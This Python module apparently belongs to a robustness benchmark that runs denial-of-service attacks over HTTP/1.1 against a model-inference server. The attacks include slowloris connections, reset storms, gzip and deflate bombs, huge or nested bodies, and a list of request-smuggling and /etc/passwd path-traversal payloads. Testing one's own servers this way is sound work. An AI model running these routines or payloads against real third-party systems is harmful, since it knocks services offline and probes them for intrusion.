"""The attacks on the HTTP port: slow, large, packed, contradictory and unread requests over HTTP/1.1."""

import gzip
import itertools
import json
import select
import socket
import struct
import time
import zlib
from collections.abc import Sequence

from bench.attacks.scrapes import connect, ended, held, hung_up
from bench.attacks.slow import client_hello
from bench.attacks.target import MOST_S, Sent, Target
from bench.attacks.workload import ANSWER_MIB

_INFER = "/v2/models/mlp/infer"
_LARGE = 60_000_000
_ROW = json.dumps({"inputs": [{"name": "input", "shape": [1, 784], "datatype": "FP32", "data": [0] * 784}]}).encode()
_UNREAD = json.dumps(
    {
        "inputs": [{"name": "input", "shape": [ANSWER_MIB, 1], "datatype": "FP32", "data": [0] * ANSWER_MIB}],
        "parameters": {"binary_data_output": True},
    }
).encode()
"""Is answered with 64 MiB."""
_CONTRADICTORY = (
    b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\nHost: localhost\n\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: \0\r\n\r\n",
    b"GET http:// HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"CONNECT localhost:1 HTTP/1.1\r\nHost: localhost:1\r\n\r\n",
    b"GET /%2e%2e%2f%2e%2e%2fetc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 20_000,
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"\r\n" * 5_000,
)


def _head(*lines: str, path: str = _INFER) -> bytes:
    return "\r\n".join((f"POST {path} HTTP/1.1", "Host: localhost", *lines, "", "")).encode()


def _whole(body: bytes, *lines: str, path: str = _INFER) -> bytes:
    return _head(f"Content-Length: {len(body)}", *lines, path=path) + body


def idle(target: Target) -> Sent:
    """1 000 idle connections."""
    return held(target, target.http, b"", b"")


def slow_heads(target: Target) -> Sent:
    """1 000 heads that come byte by byte and never end."""
    return held(target, target.http, _head()[:-2], b"x: y\r\n")


def slow_bodies(target: Target) -> Sent:
    """1 000 bodies that come byte by byte."""
    return held(target, target.http, _head("Content-Length: 100000"), b"y")


def handshakes(target: Target) -> Sent:
    """1 000 connections that send the first message of a TLS handshake and no more."""
    return held(target, target.http, client_hello(), b"")


def hang_ups(target: Target) -> Sent:
    """Whole requests by clients that do not wait for the answer."""
    return hung_up(target, target.http, _whole(_ROW))


def storm(target: Target) -> Sent:
    """Connections that are opened and reset, as fast as can be."""
    sent = Sent("connections")
    begin = time.monotonic()
    while time.monotonic() < begin + target.seconds:
        made = connect(target, sent, target.http)
        if made is None:
            continue
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        made.close()
        sent.count += 1
    return ended(sent, begin, ())


def _send(target: Target, sent: Sent, bodies: Sequence[Sequence[bytes]], *, read: bool, receive_bytes: int = 0) -> Sent:
    """Send to as many connections at once what each has to say, and then keep open what the server does not close.

    Args:
        target: the server.
        sent: counts.
        bodies: what each connection says, in parts that may repeat the same bytes.
        read: whether answers are read.
        receive_bytes: how much the client's system takes of an answer that is not read; 0 for its own choice.
    """
    begin = time.monotonic()
    left: dict[int, tuple[socket.socket, list[memoryview]]] = {}
    poll = select.poll()
    for body in bodies:
        made = connect(target, sent, target.http)
        if made is None:
            continue
        if receive_bytes:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        left[made.fileno()] = (made, [memoryview(part) for part in reversed(body)])
        poll.register(made.fileno(), select.POLLOUT | (select.POLLIN if read else 0))
    total = 0
    all_ones = [made for made, _ in left.values()]
    while time.monotonic() < begin + (MOST_S if any(parts for _, parts in left.values()) else target.seconds):
        for number, events in poll.poll(100):
            made, parts = left[number]
            try:
                if events & select.POLLIN and not made.recv(1 << 16):
                    raise ConnectionResetError
                if events & (select.POLLHUP | select.POLLERR):
                    raise ConnectionResetError
                if parts and events & select.POLLOUT:
                    size = made.send(parts[-1][: 1 << 16])
                    target.link.spend(size)
                    total += size
                    parts[-1] = parts[-1][size:]
                    if not parts[-1]:
                        parts.pop()
            except BlockingIOError:
                continue
            except OSError as error:
                sent.ends[f"closed: {type(error).__name__}"] += 1
                poll.unregister(number)
                del left[number]
                continue
            if not parts:
                poll.modify(number, select.POLLIN if read else 0)
    sent.count += total // 1_000_000
    return ended(sent, begin, all_ones)


def _again(target: Target, bodies: Sequence[Sequence[bytes]]) -> Sent:
    """The same with answers read, over and over for as long as an attack goes on."""
    sent = Sent("MB")
    begin = time.monotonic()
    while time.monotonic() < begin + target.seconds:
        _send(
            Target(target.address, 0.0, target.link, target.source, target.metrics, target.http),
            sent,
            bodies,
            read=True,
        )
    sent.seconds = time.monotonic() - begin
    return sent


def pipelined(target: Target) -> Sent:
    """64 connections that send requests, the next before the last is answered, and read nothing."""
    request = b"GET /v2 HTTP/1.1\r\nHost: localhost\r\n\r\n"
    return _send(target, Sent("MB"), [[request * 200_000]] * 64, read=False, receive_bytes=4096)


def announced(target: Target) -> Sent:
    """200 heads that announce 60 MB, and a byte of it."""
    return _send(target, Sent("MB"), [[_head(f"Content-Length: {_LARGE}") + b"y"]] * 200, read=True)


def half_sent(target: Target) -> Sent:
    """40 bodies of 60 MB, all but the last bytes of each."""
    body = bytes(_LARGE - 1000)
    return _send(target, Sent("MB"), [[_head(f"Content-Length: {_LARGE}"), body]] * 40, read=True)


def whole(target: Target) -> Sent:
    """100 bodies of 60 MB, which are no JSON."""
    body = b" " * _LARGE
    return _send(target, Sent("MB"), [[_head(f"Content-Length: {_LARGE}"), body]] * 100, read=True)


def chunks(target: Target) -> Sent:
    """20 bodies of a gigabyte, in chunks."""
    chunk = b"100000\r\n" + bytes(1 << 20) + b"\r\n"
    return _again(target, [[_head("Transfer-Encoding: chunked"), *[chunk] * 1000]] * 20)


def tiny_chunks(target: Target) -> Sent:
    """20 bodies in chunks of a byte."""
    return _again(target, [[_head("Transfer-Encoding: chunked"), b"1\r\ny\r\n" * 1_000_000]] * 20)


def gzip_bombs(target: Target) -> Sent:
    """32 bodies at a time, of 61 KB, that unpack to 60 MB."""
    bomb = gzip.compress(b" " * _LARGE, 9)
    return _again(target, [[_whole(bomb, "Content-Encoding: gzip")]] * 32)


def deflate_bombs(target: Target) -> Sent:
    """The same with the other coding."""
    bomb = zlib.compress(b" " * _LARGE, 9)
    return _again(target, [[_whole(bomb, "Content-Encoding: deflate")]] * 32)


def nested(target: Target) -> Sent:
    """8 bodies of brackets at a time."""
    return _again(target, [[_whole(b"[" * (_LARGE // 2))]] * 8)


def unread(target: Target) -> Sent:
    """24 answers of 64 MiB that nobody reads."""
    path = "/v2/models/wide/infer"
    return _send(target, Sent("MB"), [[_whole(_UNREAD, path=path)]] * 24, read=False, receive_bytes=4096)


def malformed(target: Target) -> Sent:
    """Heads that contradict themselves or the protocol, one after the other."""
    sent = Sent("requests")
    begin = time.monotonic()
    for request in itertools.cycle(_CONTRADICTORY):
        if time.monotonic() > begin + target.seconds:
            break
        made = connect(target, sent, target.http)
        if made is None:
            continue
        made.settimeout(2.0)
        try:
            made.sendall(request)
            made.shutdown(socket.SHUT_WR)
            status = made.recv(1 << 16)[9:12].decode("latin-1")
            sent.ends[status or "closed"] += 1
        except OSError as error:
            sent.ends[f"closed: {type(error).__name__}"] += 1
        made.close()
        sent.count += 1
    return ended(sent, begin, ())
